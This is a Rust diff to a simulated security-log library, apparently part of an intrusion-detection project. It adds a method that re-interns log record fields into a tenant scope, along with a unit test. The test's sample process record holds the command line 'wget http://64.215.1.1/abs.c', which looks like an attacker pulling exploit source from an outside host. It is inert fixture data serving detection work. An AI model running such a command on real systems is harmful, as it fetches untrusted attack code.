@@ -11,7 +11,7 @@ use std::net::Ipv4Addr;
 
 use serde::{Deserialize, Serialize};
 use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
-use simnet::intern::Sym;
+use simnet::intern::{Sym, SymScope};
 use simnet::time::{SimDuration, SimTime};
 use simnet::topology::HostId;
 
@@ -297,9 +297,85 @@ impl LogRecord {
     }
 
     /// The user account associated with the record, if any. This is the key
-    /// the threat model (§III-B) groups attacks by.
+    /// the threat model (§III-B) groups attacks by. Resolves against the
+    /// global scope; tenant-scoped records use [`LogRecord::user_in`].
     pub fn user(&self) -> Option<&'static str> {
         self.user_sym().map(Sym::as_str)
+    }
+
+    /// [`LogRecord::user`] resolved against an explicit scope.
+    pub fn user_in<'a>(&self, scope: &'a SymScope) -> Option<&'a str> {
+        self.user_sym().map(|s| scope.resolve(s))
+    }
+
+    /// Re-mint every interned field from `from`'s symbol universe into
+    /// `to`'s, leaving all scalar fields untouched. This is the service
+    /// ingest boundary: records arrive minted in the producer's scope
+    /// (typically global) and must live in the tenant's scope so that
+    /// evicting the tenant frees their strings. Interning is
+    /// deterministic, so rescoping the same record sequence into a fresh
+    /// scope always assigns the same ids — byte-identical detections.
+    pub fn rescope(&self, from: &SymScope, to: &SymScope) -> LogRecord {
+        if from.ptr_eq(to) {
+            return self.clone();
+        }
+        let m = |s: Sym| to.sym(from.resolve(s));
+        match self {
+            LogRecord::Conn(r) => LogRecord::Conn(r.clone()),
+            LogRecord::Http(r) => LogRecord::Http(HttpRecord {
+                method: m(r.method),
+                host: m(r.host),
+                uri: m(r.uri),
+                mime: m(r.mime),
+                user_agent: m(r.user_agent),
+                ..r.clone()
+            }),
+            LogRecord::Ssh(r) => LogRecord::Ssh(SshRecord {
+                user: m(r.user),
+                client_banner: m(r.client_banner),
+                ..r.clone()
+            }),
+            LogRecord::Notice(r) => LogRecord::Notice(NoticeRecord {
+                note: match &r.note {
+                    NoticeKind::Custom(sym) => NoticeKind::Custom(m(*sym)),
+                    other => other.clone(),
+                },
+                msg: m(r.msg),
+                sub: m(r.sub),
+                ..r.clone()
+            }),
+            LogRecord::Process(r) => LogRecord::Process(ProcessRecord {
+                hostname: m(r.hostname),
+                user: m(r.user),
+                exe: m(r.exe),
+                cmdline: m(r.cmdline),
+                ..r.clone()
+            }),
+            LogRecord::File(r) => LogRecord::File(FileRecord {
+                hostname: m(r.hostname),
+                user: m(r.user),
+                path: m(r.path),
+                process: m(r.process),
+                ..r.clone()
+            }),
+            LogRecord::Auth(r) => LogRecord::Auth(AuthRecord {
+                hostname: m(r.hostname),
+                user: m(r.user),
+                ..r.clone()
+            }),
+            LogRecord::Audit(r) => LogRecord::Audit(AuditRecord {
+                hostname: m(r.hostname),
+                user: m(r.user),
+                syscall: m(r.syscall),
+                args: m(r.args),
+                ..r.clone()
+            }),
+            LogRecord::Db(r) => LogRecord::Db(DbRecord {
+                user: m(r.user),
+                statement: m(r.statement),
+                ..r.clone()
+            }),
+        }
     }
 
     /// The user account as an interned symbol (allocation- and
@@ -366,6 +442,53 @@ mod tests {
         assert_eq!(r.user(), Some("alice"));
         assert_eq!(r.host(), Some(HostId(2)));
         assert_eq!(r.kind().stem(), "process");
+    }
+
+    #[test]
+    fn rescope_remints_every_interned_field() {
+        let scope = SymScope::fresh();
+        let r = LogRecord::Process(ProcessRecord {
+            ts: SimTime::from_secs(1),
+            host: HostId(2),
+            hostname: "cn01".into(),
+            user: "alice".into(),
+            pid: 100,
+            ppid: 1,
+            exe: "/usr/bin/wget".into(),
+            cmdline: "wget http://64.215.1.1/abs.c".into(),
+        });
+        let scoped = r.rescope(&SymScope::global(), &scope);
+        assert_eq!(scoped.user_in(&scope), Some("alice"));
+        match (&r, &scoped) {
+            (LogRecord::Process(orig), LogRecord::Process(s)) => {
+                assert_eq!(scope.resolve(s.cmdline), "wget http://64.215.1.1/abs.c");
+                assert_eq!(scope.resolve(s.hostname), "cn01");
+                assert_eq!(scope.resolve(s.exe), "/usr/bin/wget");
+                // Scalars untouched.
+                assert_eq!(s.ts, orig.ts);
+                assert_eq!(s.host, orig.host);
+                assert_eq!(s.pid, orig.pid);
+            }
+            _ => unreachable!(),
+        }
+        // Rescoping into the same scope is the identity.
+        assert_eq!(r.rescope(&SymScope::global(), &SymScope::global()), r);
+        // Custom notice symbols are remapped too.
+        let n = LogRecord::Notice(NoticeRecord {
+            ts: SimTime::from_secs(1),
+            note: NoticeKind::Custom("alert_custom".into()),
+            msg: "msg".into(),
+            src: "1.2.3.4".parse().unwrap(),
+            dst: None,
+            sub: Sym::EMPTY,
+        });
+        match n.rescope(&SymScope::global(), &scope) {
+            LogRecord::Notice(sn) => match sn.note {
+                NoticeKind::Custom(sym) => assert_eq!(scope.resolve(sym), "alert_custom"),
+                other => panic!("wrong kind: {other}"),
+            },
+            _ => unreachable!(),
+        }
     }
 
     #[test]
